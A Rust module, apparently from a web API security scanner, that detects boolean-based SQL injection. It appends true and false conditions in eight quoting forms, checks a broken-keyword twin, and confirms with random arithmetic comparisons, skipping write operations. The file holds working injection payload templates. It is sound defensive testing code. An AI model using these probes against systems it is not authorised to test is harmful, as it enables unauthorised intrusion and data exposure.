//! Whether a value becomes part of an SQL query (CWE-89, OWASP A03:2021).
//!
//! For each value of each request that works:
//! 1. Three equal requests tell what of the answer is stable; where that is not enough, nothing is said.
//! 2. A condition is added in the forms a query may have it, once true and once false: with `AND` the true one must give the
//!    answer of the original value and the false one another; with `OR`, behind a value that nothing has, the other way round.
//! 3. Negative twin: the same with a broken keyword must not behave as the condition did.
//! 4. Proof: eight comparisons of random numbers, true and false in random order; the answers must follow all of them. Chance
//!    does so in one of 256 runs of an answer that changes at random, and only after 2 and 3.
//!
//! A value whose answers follow nothing passed. Writes are not tried: a condition that is true for every row could change all.

use gabion_model::outbound::BoxFuture;

use super::{Attack, Phase, usable};
use crate::call::{Call, Put};
use crate::compare::Profile;
use crate::field::{Field, Known};
use crate::operation::{Place, Point};
use crate::verdict::{Outcome, Proof, Verdict};
use crate::wire::{Answer, Request, WireError};

pub(super) struct SqlInjection;

const ID: &str = "sql-injection";

impl Attack for SqlInjection {
    fn id(&self) -> &'static str {
        ID
    }

    fn phase(&self) -> Phase {
        Phase::Read
    }

    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
        Box::pin(run(field))
    }
}

async fn run(field: &Field) -> Result<(), WireError> {
    let mut tested = 0_usize;
    for known in field.examples() {
        let Some(operation) = field.operation(known.operation) else { continue };
        if !operation.is_safe() {
            continue;
        }
        for point in known.call.points() {
            tested = tested.saturating_add(1);
            attack(field, known, &operation.id(), &point).await?;
        }
    }
    if tested == 0 {
        field.not_tested(ID, "no operation takes a value");
    }
    Ok(())
}

/// How a value may stand in a query: what closes it, and what the rest of the query needs to stay whole.
#[derive(Clone, Copy)]
struct Form {
    before: &'static str,
    after: &'static str,
}

const FORMS: &[Form] = &[
    Form { before: "'", after: "'1'='1" },
    Form { before: "", after: "1=1" },
    Form { before: "%'", after: "'%'='" },
    Form { before: "\"", after: "\"1\"=\"1" },
    Form { before: "')", after: "('1'='1" },
    Form { before: "%')", after: "('%'='" },
    Form { before: ")", after: "(1=1" },
    Form { before: "'))", after: "(('1'='1" },
];

/// How a condition is added.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Word {
    /// What is true changes nothing.
    And,
    /// What is false changes nothing, behind a value that nothing has.
    Or,
}

impl Word {
    const fn text(self) -> &'static str {
        match self {
            Self::And => "AND",
            Self::Or => "OR",
        }
    }
}

/// What a value is after it, when nothing of it is in a query.
struct Sent {
    request: Request,
    answer: Answer,
    text: String,
}

struct Aim<'a> {
    field: &'a Field,
    who: usize,
    call: &'a Call,
    point: &'a Point,
    original: String,
}

impl Aim<'_> {
    async fn send(&self, text: String) -> Result<Option<Sent>, WireError> {
        let call = self.call.with(self.point, &Put::Text(&text));
        let sent = usable(self.field.exchange(self.who, &call).await)?;
        Ok(sent.map(|(request, answer)| Sent { request, answer, text }))
    }

    async fn condition(&self, form: Form, word: Word, condition: &str) -> Result<Option<Sent>, WireError> {
        self.send(self.text(form, word.text(), condition)).await
    }

    /// `lamp' AND 7=7 AND '1'='1`. The rest is bound to the condition, so that it decides alone.
    fn text(&self, form: Form, word: &str, condition: &str) -> String {
        format!("{}{} {word} ({condition}) AND {}", self.original, form.before, form.after)
    }

    fn is_base(&self, profile: &Profile, sent: &Sent) -> bool {
        profile.fits(&sent.answer, &sent.text, &self.original)
    }
}

async fn attack(field: &Field, known: &Known, operation: &str, point: &Point) -> Result<(), WireError> {
    let say = |verdict, says: &str| field.say(Outcome::new(ID, operation, verdict, says).at(point));
    let Some(original) = known.call.value(point) else { return Ok(()) };
    if matches!(point.place, Place::File | Place::Body) {
        return Ok(());
    }
    let aim = Aim { field, who: known.who, call: &known.call, point, original };
    let mut base = Vec::new();
    for _ in 0..3 {
        let Some(sent) = aim.send(aim.original.clone()).await? else {
            say(Verdict::Inconclusive, "the original value got no answer any more");
            return Ok(());
        };
        base.push(sent);
    }
    let answers: Vec<&Answer> = base.iter().map(|sent| &sent.answer).collect();
    let Some(profile) = Profile::of(&answers).filter(Profile::is_calm) else {
        say(Verdict::Inconclusive, "the original value gets another answer each time");
        return Ok(());
    };
    // A value that finds nothing tells nothing with `AND`.
    let ways: Vec<(Form, Word)> =
        [Word::And, Word::Or].iter().flat_map(|word| FORMS.iter().map(|form| (*form, *word))).collect();
    for (form, word) in ways {
        // What must be as the original value, and what must not.
        let (same, other) = if word == Word::And { ("7=7", "7=8") } else { ("7=8", "7=7") };
        let Some(changed) = aim.condition(form, word, other).await? else { continue };
        if aim.is_base(&profile, &changed) {
            continue;
        }
        let Some(unchanged) = aim.condition(form, word, same).await? else { continue };
        if !aim.is_base(&profile, &unchanged) {
            continue;
        }
        // The twin: no database knows the keyword. It must be neither as the original nor as what the condition changed.
        let Some(twin) = aim.send(aim.text(form, &format!("X{}", word.text()), same)).await? else {
            continue;
        };
        let again = Profile::of(&[&changed.answer]);
        let as_changed = again.is_some_and(|changed| changed.fits(&twin.answer, &twin.text, &aim.original));
        if aim.is_base(&profile, &twin) || (as_changed && word == Word::Or) {
            continue;
        }
        if !follows(&aim, &profile, form, word).await? {
            say(Verdict::Inconclusive, "one condition made a difference and others did not");
            return Ok(());
        }
        let says =
            format!("the database computed what was put into {point}: {ROUNDS} of {ROUNDS} comparisons");
        let evidence = format!(
            "`{}` gives the answer of `{}`, and `{}` another",
            unchanged.text, aim.original, changed.text
        );
        let proof = Proof::new(field.evidence(aim.who, &changed.request, &changed.answer), evidence)
            .twin(field.evidence(aim.who, &twin.request, &twin.answer))
            .shown(field.evidence(aim.who, &unchanged.request, &unchanged.answer));
        field.say(Outcome::new(ID, operation, Verdict::Proven, says).at(point).proof(proof));
        return Ok(());
    }
    say(Verdict::Passed, "no condition that was put into it made a difference");
    Ok(())
}

const ROUNDS: usize = 8;

/// Whether the answers follow comparisons of random numbers.
async fn follows(aim: &Aim<'_>, profile: &Profile, form: Form, word: Word) -> Result<bool, WireError> {
    // At least two of each.
    let mut truths: Vec<bool> = (0..ROUNDS).map(|round| round % 2 == 0).collect();
    for at in 0..truths.len() {
        let other = usize::try_from(aim.field.number(8)).unwrap_or(0).min(truths.len().saturating_sub(1));
        truths.swap(at, other);
    }
    for truth in truths {
        let (one, two) =
            (aim.field.number(900).saturating_add(100), aim.field.number(900).saturating_add(100));
        let product = one.saturating_mul(two).saturating_add(u32::from(!truth));
        let Some(sent) = aim.condition(form, word, &format!("{one}*{two}={product}")).await? else {
            return Ok(false);
        };
        if aim.is_base(profile, &sent) != (truth == (word == Word::And)) {
            return Ok(false);
        }
    }
    Ok(true)
}
